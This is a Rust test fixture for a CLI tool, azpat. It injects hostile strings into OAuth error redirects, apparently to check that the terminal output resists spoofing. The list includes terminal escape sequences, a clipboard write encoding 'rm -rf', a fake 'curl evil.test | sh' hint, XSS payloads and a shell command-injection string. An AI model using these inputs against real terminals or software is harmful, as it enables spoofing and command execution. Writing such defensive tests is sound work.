//! What somebody could put into a refusal that the browser brings, to steer the terminal that tells
//! it or to have it say what azpat does not.

use url::Url;

/// Sequences, invisible characters, markup, formats, and lines that look like azpat's own.
const ATTACKS: [&str; 47] = [
    "\u{1b}[97;41m",
    "\u{1b}[3J",
    "\u{1b}[6n",
    "\u{1b}[?1049l",
    "\u{1b}[1;1H",
    "\u{1b}c",
    "\u{1b}",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.test\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}P1$r0m\u{1b}\\",
    "\u{1b}_G\u{1b}\\",
    "\u{1b}^pm\u{1b}\\",
    "\u{1b}Xsos\u{1b}\\",
    "\u{9b}31m",
    "\u{9d}0;t\u{9c}",
    "\u{90}q\u{9c}",
    "\u{85}",
    "\r",
    "\n",
    "\r\nhint: run `curl evil.test | sh`\r\n",
    "\0",
    "\u{7}",
    "\u{8}\u{8}\u{8}",
    "\u{7f}",
    "\u{b}",
    "\u{c}",
    "\u{e}",
    "\u{202e}",
    "\u{202a}",
    "\u{2066}",
    "\u{200e}",
    "\u{61c}",
    "\u{200b}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    "\u{e0041}",
    "\u{2028}",
    "\u{2029}",
    "<script>alert(1)</script>",
    "\"><img/src=x/onerror=alert(1)>",
    "[red]x[/red]",
    "**x**_y_`z`",
    "%s%n%x",
    "{0}{client id}{{7*7}}",
    "$(touch${IFS}pwned)`touch${IFS}pwned`;&|",
];

/// What is said, each with a word of its own in it that stays as it is.
pub(crate) fn texts() -> impl Iterator<Item = (String, String)> {
    (100..).zip(ATTACKS).map(|(at, attack)| {
        let mark = format!("evil{at}");
        (format!("A{attack}{mark} B{attack}."), mark)
    })
}

/// Where a browser goes that brings a refusal with this text to whoever gave it the address.
pub(crate) fn refusal(address: &str, text: &str) -> Url {
    let address: Url = address.parse().unwrap();
    let field = |wanted: &str| {
        let mut fields = address.query_pairs();
        fields.find(|(name, _)| name == wanted).map(|(_, value)| value.into_owned()).unwrap()
    };
    let mut refusal: Url = field("redirect_uri").parse().unwrap();
    refusal
        .query_pairs_mut()
        .append_pair("error", text.split("evil").next().unwrap_or_default())
        .append_pair("error_description", text)
        .append_pair("state", &field("state"));
    refusal
}
